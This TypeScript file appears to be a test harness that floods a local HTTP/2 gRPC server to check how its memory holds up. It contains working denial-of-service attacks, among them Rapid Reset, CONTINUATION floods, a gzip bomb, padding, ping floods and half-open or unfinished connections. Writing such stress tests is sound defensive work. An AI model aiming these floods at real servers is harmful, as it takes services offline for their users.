/**
 * What hostile clients do to an HTTP/2 server, as a process of its own, so that the memory of the server is told apart:
 *
 *     PORT ATTACK [TOKEN]      its arguments: one of the keys of ATTACKS, or of STANDS; it prints what it sent and how it ended, as
 *                              JSON; what stands goes on to stand
 */
import { once } from 'node:events';
import { connect as connectHttp2 } from 'node:http2';
import { connect as connectTcp, type Socket } from 'node:net';
import { connect, type TLSSocket } from 'node:tls';
import { gzipSync } from 'node:zlib';

const [port, attack = '', token] = process.argv.slice(2);
const KNOWN: Readonly<Record<string, string>> = token === undefined ? {} : { authorization: `Bearer ${token}` };
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const [DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION] = [0, 1, 3, 4, 6, 9];
const [END_STREAM, END_HEADERS, PADDED] = [1, 4, 8];

function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

function field(name: string, value: string): Buffer {
  const text = (one: string) => Buffer.concat([Buffer.from([one.length]), Buffer.from(one)]);
  return Buffer.concat([Buffer.from([0]), text(name), text(value)]);
}

/** HPACK without a table (RFC 7541 section 6.2.2). */
function request(path: string, more: Readonly<Record<string, string>> = {}): Buffer {
  const fields = { ':method': 'POST', ':scheme': 'https', ':path': path, ':authority': 'localhost', te: 'trailers' };
  const all = { ...fields, 'content-type': 'application/grpc', ...KNOWN, ...more };
  return Buffer.concat(Object.entries(all).map(([name, value]) => field(name, value)));
}

const LIST = '/berth.v1.MappingService/List';
const REPORT = '/berth.v1.ReportService/Report';

const EIGHT_MB = gzipSync(Buffer.alloc(8 * 1024 * 1024), { level: 9 });

/** Writes until the server closes; counts. */
class Line {
  sent = 0;
  closed = false;
  readonly socket: Socket;
  constructor(socket: Socket) {
    this.socket = socket;
    socket.setMaxListeners(0);
    socket.on('error', () => {});
    socket.once('close', () => {
      this.closed = true;
    });
    socket.resume();
  }
  async send(bytes: Buffer): Promise<void> {
    if (this.closed) return;
    this.sent += bytes.length;
    if (this.socket.write(bytes)) return;
    await Promise.race([once(this.socket, 'drain'), once(this.socket, 'close')]).catch(() => {});
  }
}

/** Not from where others come. */
const FROM = { port: Number(port), host: '127.0.0.1', localAddress: '127.0.0.9' } as const;

function tlsConnection(): TLSSocket {
  return connect({ socket: connectTcp(FROM), rejectUnauthorized: false, ALPNProtocols: ['h2'] });
}

async function line(): Promise<Line> {
  const socket = tlsConnection();
  await once(socket, 'secureConnect');
  const made = new Line(socket);
  await made.send(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0)]));
  return made;
}

const ATTACKS: Readonly<Record<string, (one: Line) => Promise<void>>> = {
  /** CVE-2023-44487. */
  async rapidReset(one) {
    const cancel = Buffer.from([0, 0, 0, 8]);
    for (let stream = 1; stream < 1_000_000 && !one.closed; stream += 200) {
      const frames = Array.from({ length: 100 }, (_, index) => [
        frame(HEADERS, END_HEADERS, stream + 2 * index, request(LIST)),
        frame(RST_STREAM, 0, stream + 2 * index, cancel),
      ]);
      await one.send(Buffer.concat(frames.flat()));
    }
  },
  /** CVE-2024-27983, CVE-2024-28182. */
  async continuation(one) {
    await one.send(frame(HEADERS, 0, 1, request(LIST)));
    const more = Buffer.concat(Array.from({ length: 100 }, () => field('x'.repeat(60), 'y'.repeat(120))));
    for (let count = 0; count < 20_000 && !one.closed; count++) await one.send(frame(CONTINUATION, 0, 1, more));
  },
  /** A message that says it has 1 GiB, and has. */
  async hugeMessage(one) {
    const head = Buffer.from([0, 0x40, 0, 0, 0]);
    const body = Buffer.alloc(16_384);
    for (let stream = 1; stream < 100 && !one.closed; stream += 2) {
      await one.send(frame(HEADERS, END_HEADERS, stream, request(stream % 4 === 1 ? REPORT : LIST)));
      await one.send(frame(DATA, 0, stream, head));
    }
    for (let count = 0; count < 65_536 && !one.closed; count++)
      await one.send(frame(DATA, 0, 1 + 2 * (count % 50), body));
  },
  /** CVE-2024-37168: 512 MB that are 512 KB on the wire, many times. */
  async bomb(one) {
    // Members of a gzip file follow each other (RFC 1952 section 2.2).
    const zeros = Buffer.concat(Array.from({ length: 64 }, () => EIGHT_MB));
    const head = Buffer.alloc(5);
    head[0] = 1;
    head.writeUInt32BE(zeros.length, 1);
    const message = Buffer.concat([head, zeros]);
    for (let stream = 1; stream < 60 && !one.closed; stream += 2) {
      await one.send(frame(HEADERS, END_HEADERS, stream, request(LIST, { 'grpc-encoding': 'gzip' })));
      for (let at = 0; at < message.length; at += 16_384) {
        const last = at + 16_384 >= message.length;
        await one.send(frame(DATA, last ? END_STREAM : 0, stream, message.subarray(at, at + 16_384)));
      }
    }
  },
  /** Messages of which each byte comes with 255 that mean nothing (RFC 9113 section 6.1), and is held together with them. */
  async padded(one) {
    const head = Buffer.from([0, 0, 1, 0, 0]);
    const padded = frame(DATA, PADDED, 0, Buffer.concat([Buffer.from([255, 0]), Buffer.alloc(255)]));
    for (let stream = 1; stream < 200 && !one.closed; stream += 2) {
      await one.send(frame(HEADERS, END_HEADERS, stream, request(LIST)));
      await one.send(frame(DATA, 0, stream, head));
    }
    for (let count = 0; count < 5_000 && !one.closed; count++) {
      padded.writeUInt32BE(1 + 2 * (count % 100), 5);
      await one.send(Buffer.concat(Array.from({ length: 200 }, () => padded)));
    }
  },
  /** CVE-2019-9512 and 9515: each wants an answer. */
  async pings(one) {
    const flood = Buffer.concat(
      Array.from({ length: 500 }, () => [frame(PING, 0, 0, Buffer.alloc(8)), frame(SETTINGS, 0, 0)]).flat(),
    );
    one.socket.pause();
    for (let count = 0; count < 5_000 && !one.closed; count++) await one.send(flood);
  },
};

async function flood(): Promise<object> {
  const act = ATTACKS[attack];
  if (act === undefined) throw new Error(`${attack} is no attack`);
  const lines = await Promise.all(Array.from({ length: 4 }, line));
  const over = new Promise((resolve) => setTimeout(resolve, 6_000).unref());
  await Promise.race([Promise.all(lines.map(act)), over]);
  for (const { socket } of lines) socket.destroy();
  return { sent: lines.reduce((sum, one) => sum + one.sent, 0), closed: lines.filter(({ closed }) => closed).length };
}

/** Connections that begin a handshake and do not go on. */
async function half(): Promise<object> {
  const sockets = await Promise.all(
    Array.from({ length: 1_000 }, async () => {
      const socket = connectTcp(FROM);
      socket.on('error', () => {});
      await once(socket, 'connect');
      // The first bytes of a record that promises 512 of them.
      socket.write(Buffer.from([22, 3, 1, 2, 0, 1, 0]));
      return socket;
    }),
  );
  return { open: sockets.length };
}

/**
 * Connections with requests that are as long as they may be (of nobody: as any message), but for the last byte. Resolves once each is
 * answered, or was taken as far as that.
 */
async function unfinished(connections: number, streams: number): Promise<object> {
  const message = Buffer.alloc((token === undefined ? 1024 : 64) * 1024);
  message.writeUInt32BE(message.length - 4, 1);
  const statuses: Record<string, number> = {};
  const settled: Promise<unknown>[] = [];
  for (let connection = 0; connection < connections; connection++) {
    const session = connectHttp2(`https://127.0.0.1:${port}`, {
      createConnection: tlsConnection,
      maxSessionMemory: 1_000,
    });
    session.on('error', () => {});
    for (let count = 0; count < streams; count++) {
      const fields = { 'content-type': 'application/grpc', te: 'trailers', ...KNOWN };
      const stream = session.request({ ':method': 'POST', ':path': LIST, ...fields });
      stream.on('error', () => {}).resume();
      stream.once('response', (headers) => {
        const code = String(headers['grpc-status']);
        statuses[code] = (statuses[code] ?? 0) + 1;
      });
      settled.push(
        new Promise((resolve) => stream.once('response', resolve).once('close', resolve).write(message, resolve)),
      );
    }
  }
  await Promise.all(settled);
  return { sent: connections * streams, statuses };
}

const STANDS: Readonly<Record<string, () => Promise<object>>> = {
  half,
  unfinished: () => unfinished(300, 1),
  manyUnfinished: () => unfinished(100, 100),
};

const stand = STANDS[attack];
process.stdout.write(`${JSON.stringify(await (stand ?? flood)())}\n`);
if (stand === undefined) process.exit(0);
